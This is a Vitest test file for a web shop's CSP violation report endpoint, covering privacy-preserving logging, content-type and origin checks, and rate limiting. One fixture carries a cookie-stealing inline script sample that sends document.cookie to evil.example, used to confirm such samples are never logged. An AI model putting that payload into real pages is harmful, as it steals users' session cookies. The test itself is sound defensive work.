import { afterEach, describe, expect, it, vi } from 'vitest'
import { errorOf, postJson, testApp } from '../../testing'

let clients = 0
// Each test is its own client, so one test's reports never use another's budget.
function setup() {
  const { request } = testApp()
  const ip = `10.8.${Math.floor(++clients / 250)}.${clients % 250}`
  const log = vi.spyOn(console, 'warn').mockImplementation(() => undefined)
  const post = (body: unknown, headers: Record<string, string> = {}) =>
    request(
      '/api/csp-reports',
      postJson(body, {
        'Content-Type': 'application/csp-report',
        'cf-connecting-ip': ip,
        'User-Agent': 'Mozilla/5.0 Test',
        ...headers,
      }),
    )
  return { post, log }
}

// As Chromium sends it for a picture from a host the policy does not name.
const blockedPicture = {
  'csp-report': {
    'document-uri': 'https://shop.example/italy/eur/it/cerca?q=olio+nuovo',
    referrer: 'https://shop.example/italy/eur/it/',
    'violated-directive': 'img-src',
    'effective-directive': 'img-src',
    'original-policy': "default-src 'self'; img-src 'self'; report-uri /api/csp-reports",
    disposition: 'enforce',
    'blocked-uri': 'https://images.elsewhere.example/oil.png?token=abc',
    'line-number': 1,
    'column-number': 20,
    'source-file': 'https://shop.example/_mf/catalog/1.4.0/470.ab12cd34.js?v=1',
    'status-code': 200,
    'script-sample': '',
  },
}

afterEach(() => vi.restoreAllMocks())

describe('POST /api/csp-reports', () => {
  it('logs what was blocked, where and by which directive, without queries, and answers 204', async () => {
    const { post, log } = setup()
    const res = await post(blockedPicture)
    expect(res.status).toBe(204)
    expect(log).toHaveBeenCalledWith({
      event: 'csp_violation',
      directive: 'img-src',
      blocked: 'https://images.elsewhere.example',
      path: '/italy/eur/it/cerca',
      source: 'https://shop.example/_mf/catalog/1.4.0/470.ab12cd34.js',
      line: 1,
      column: 20,
      disposition: 'enforce',
      country: undefined,
      userAgent: 'Mozilla/5.0 Test',
    })
  })

  it('logs an inline script by its keyword and never the sample of its code', async () => {
    const { post, log } = setup()
    const inline = {
      'csp-report': {
        'document-uri': 'https://shop.example/italy/eur/it/',
        'violated-directive': 'script-src-elem',
        'blocked-uri': 'inline',
        'script-sample': 'fetch("https://evil.example/?c="+document.cookie)',
      },
    }
    expect((await post(inline)).status).toBe(204)
    const logged = log.mock.calls[0]?.[0]
    expect(logged).toMatchObject({ directive: 'script-src-elem', blocked: 'inline', path: '/italy/eur/it/' })
    expect(JSON.stringify(logged)).not.toContain('evil')
  })

  it('names a data: or blob: address by its scheme alone', async () => {
    const { post, log } = setup()
    const data = { 'csp-report': { 'blocked-uri': 'data:image/png;base64,iVBORw0KGgo=' } }
    expect((await post(data)).status).toBe(204)
    expect(log.mock.calls[0]?.[0]).toMatchObject({ blocked: 'data' })
  })

  it('reads a report sent as JSON too', async () => {
    const { post, log } = setup()
    expect((await post(blockedPicture, { 'Content-Type': 'application/json' })).status).toBe(204)
    expect(log).toHaveBeenCalledTimes(1)
  })

  it('refuses what is not a CSP report, and logs nothing', async () => {
    const { post, log } = setup()
    for (const body of [
      { report: {} },
      { 'csp-report': { 'line-number': 'one' } },
      { 'csp-report': { 'blocked-uri': 'x'.repeat(2_001) } },
    ])
      expect((await post(body)).status, JSON.stringify(body).slice(0, 60)).toBe(400)
    const plain = await post(JSON.stringify(blockedPicture), { 'Content-Type': 'text/plain' })
    expect(plain.status).toBe(415)
    expect((await errorOf(plain)).message).toBe('send application/csp-report or application/json')
    expect(log).not.toHaveBeenCalled()
  })

  it('refuses a report another site sends', async () => {
    const { post, log } = setup()
    const res = await post(blockedPicture, { Origin: 'https://elsewhere.example' })
    expect(res.status).toBe(403)
    expect(log).not.toHaveBeenCalled()
  })

  it('stops a page that breaks its policy in a loop after 20 reports a minute', async () => {
    const { post, log } = setup()
    for (let i = 0; i < 20; i++) expect((await post(blockedPicture)).status).toBe(204)
    const limited = await post(blockedPicture)
    expect(limited.status).toBe(429)
    expect(await errorOf(limited)).toEqual({ code: 'rate_limited', message: expect.any(String) })
    const events = log.mock.calls.map(([logged]) => (logged as { event: string }).event)
    expect(events.filter((event) => event === 'csp_violation')).toHaveLength(20)
    expect(events.at(-1)).toBe('rate_limited')
  })
})
